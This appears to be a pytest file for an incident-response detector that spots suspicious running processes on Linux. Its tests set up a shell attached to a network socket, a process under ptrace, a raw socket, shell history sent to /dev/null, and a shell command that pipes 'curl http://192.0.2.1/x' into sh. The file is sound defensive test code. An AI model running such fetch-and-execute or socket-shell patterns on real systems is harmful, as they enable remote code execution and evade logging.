"""Shells on sockets, sniffers, tracers: what a process is just doing."""

import os
import pty
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest

from irkit.collect.linux.connections import connections
from irkit.detect.process.subject import Other
from irkit.records import Connection
from tests.detect.live import SHELL, SLEEP, cat, look, odd, python, running

_TRACER = """
import ctypes, os, subprocess, sys
child = subprocess.Popen(sys.argv[1:], stdin=subprocess.PIPE)
assert ctypes.CDLL(None).ptrace(16, child.pid, None, None) == 0
os.waitpid(child.pid, os.WUNTRACED)
print(child.pid, flush=True)
sys.stdin.read()
child.kill()
"""


@contextmanager
def connected() -> Iterator[tuple[socket.socket, socket.socket]]:
    """Both ends of a connection over the loopback."""
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.create_connection(server.getsockname()) as here,
    ):
        there, _ = server.accept()
        with there:
            yield here, there


def test_a_shell_on_a_socket() -> None:
    with connected() as (here, there):
        port = there.getsockname()[1]
        with running(SHELL, stdin=here, stdout=here, stderr=here) as pid:
            found = odd(look(pid))
    assert found.keys() == {"shell_on_a_socket"}
    assert found["shell_on_a_socket"].score > 75
    assert f"127.0.0.1 port {port}" in found["shell_on_a_socket"].sentence


def test_a_shell_that_inetd_started_is_less_odd() -> None:
    with connected() as (here, _), running(SHELL, stdin=here, stdout=here) as pid:
        subject = replace(look(pid), parent=Other(1, "xinetd", "/usr/sbin/xinetd"))
    assert odd(subject)["shell_on_a_socket"].score <= 75


def test_shells_on_pipes_and_local_sockets_are_usual() -> None:
    with running(SHELL, stdout=subprocess.PIPE) as pid:
        assert odd(look(pid)) == {}
    one, other = socket.socketpair()
    with one, other, running(SHELL, stdin=one, stdout=one, stderr=one) as pid:
        assert odd(look(pid)) == {}
    with connected() as (here, _), running(SHELL, stdout=here, stderr=here) as pid:
        assert "shell_without_terminal" not in odd(look(pid))


def test_another_program_on_a_socket_is_a_service() -> None:
    with connected() as (here, _), running(SLEEP, "600", stdin=here, stdout=here) as pid:
        assert odd(look(pid)) == {}


def test_an_interactive_shell_on_pipes() -> None:
    quiet = {"stdout": subprocess.PIPE, "stderr": subprocess.DEVNULL}
    with running(SHELL, "-i", start_new_session=True, **quiet) as pid:
        assert odd(look(pid)).keys() == {"shell_without_terminal"}


def test_a_shell_without_history() -> None:
    keeper, terminal = pty.openpty()
    options = {"stdin": terminal, "stdout": terminal, "stderr": terminal}
    try:
        with running(SHELL, env={"HISTFILE": "/dev/null"}, **options) as pid:
            assert odd(look(pid)).keys() == {"history_kept_away"}
        with running(SHELL, env={"HISTFILE": "/root/.history"}, **options) as pid:
            assert odd(look(pid)) == {}
    finally:
        os.close(terminal)
        os.close(keeper)
    with running(SHELL, env={"HISTFILE": "/dev/null"}) as pid:  # a script needs no history
        assert odd(look(pid)) == {}


def test_a_process_that_is_traced() -> None:
    pipe = subprocess.PIPE
    command = [sys.executable, "-c", _TRACER, SLEEP, "600"]
    with subprocess.Popen(command, stdin=pipe, stdout=pipe) as tracer:
        assert tracer.stdout is not None
        subject = look(int(tracer.stdout.readline()))
        tracer.communicate()
    assert subject.tracer is not None
    assert subject.tracer.pid == tracer.pid
    assert 40 <= odd(subject)["traced"].score <= 75
    debugged = replace(subject, tracer=Other(tracer.pid, "gdb", "/usr/bin/gdb"))
    assert odd(debugged)["traced"].score < 40


def held_by(pid: int) -> tuple[Connection, ...]:
    return tuple(c for c in connections() if isinstance(c, Connection) and c.pid == pid)


def test_a_raw_socket() -> None:
    raw = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()
    except PermissionError:
        pytest.skip("only root may open a raw socket")
    with python(raw) as pid:
        subject = look(pid, held_by(pid))
    assert odd(subject)["raw_socket"].score == 60
    assert subject.image is not None
    known = replace(subject, image=replace(subject.image, path="/usr/sbin/tcpdump"))
    assert "raw_socket" not in odd(known)


def test_a_program_of_a_temporary_folder_that_talks_to_another_host(tmp_path: Path) -> None:
    image = shutil.copy(SLEEP, tmp_path / "beacon")
    with connected() as (here, _), running(str(image), "600", stdin=here) as pid:
        subject = look(pid, held_by(pid))
    assert "connected_from_odd_place" not in odd(subject)  # it talks to this very host
    (one,) = subject.connections or ()
    abroad = replace(subject, connections=(replace(one, remote_address="192.0.2.1"),))
    assert odd(abroad)["connected_from_odd_place"].score == 70


def test_a_shell_that_has_a_connection() -> None:
    with connected() as (here, _):
        passed = {"pass_fds": (here.fileno(),)}
        with running(SHELL, **passed) as pid:
            subject = look(pid, held_by(pid))
    abroad = tuple(replace(c, remote_address="192.0.2.1") for c in subject.connections or ())
    assert odd(replace(subject, connections=abroad)).keys() == {"connected_shell"}
    assert odd(subject) == {}


def test_a_script_of_a_temporary_folder(tmp_path: Path) -> None:
    script = tmp_path / "script.sh"
    script.write_text("read x\n")
    with running(SHELL, str(script)) as pid:
        assert odd(look(pid)).keys() == {"script_in_temporary_folder"}
    with running(SHELL, "script.sh", cwd=tmp_path) as pid:
        assert odd(look(pid)).keys() == {"script_in_temporary_folder"}


FETCH = "curl http://192.0.2.1/x"  # apart: no file here looks like a dropper to a scanner


def test_a_shell_told_to_run_what_it_fetches() -> None:
    with running(SHELL, "-c", f"read x; {FETCH} | sh") as pid:
        assert odd(look(pid)).keys() == {"told_to_shell"}
    with running(SHELL, "-c", f"read x; {FETCH} | sort") as pid:
        assert odd(look(pid)) == {}
    with cat() as pid:  # whose arguments are only text
        subject = replace(look(pid), command=("cat", "-c", f"{FETCH} | sh"))
    assert odd(subject) == {}
